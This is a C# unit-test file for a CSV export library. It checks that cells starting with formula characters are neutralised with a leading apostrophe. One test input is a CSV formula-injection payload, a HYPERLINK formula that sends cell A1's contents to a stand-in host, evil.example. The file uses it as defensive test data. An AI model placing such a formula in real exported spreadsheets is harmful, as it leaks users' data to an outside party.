using FsCheck;
using FsCheck.Xunit;
using TotalPlace.Reports.Csv;

namespace TotalPlace.Reports.Tests.Csv;

/// <summary>Formula injection: a text cell a spreadsheet would run as a formula is written as text.</summary>
[Trait("Issue", "15")]
public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1)", "'=HYPERLINK(\"http://evil.example?\"&A1)")]
    [InlineData("+44 1392 000000", "'+44 1392 000000")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("Devon County Council", "Devon County Council")]
    [InlineData("", "")]
    public void Text_Cell_IsNeutralisedOnlyWhenASpreadsheetWouldRunIt(string value, string expected) =>
        Assert.Equal(expected, CsvCell.Text(value));

    [Property]
    public bool Text_AnyString_NeverStartsWithAFormulaCharacterAndKeepsTheOriginalText(NonNull<string> value)
    {
        var written = CsvCell.Text(value.Get);
        var formula = written.Length > 0 && written[0] is '=' or '+' or '-' or '@' or '\t' or '\r';
        var original = written.StartsWith('\'') && written != value.Get ? written[1..] : written;
        return !formula && original == value.Get;
    }
}
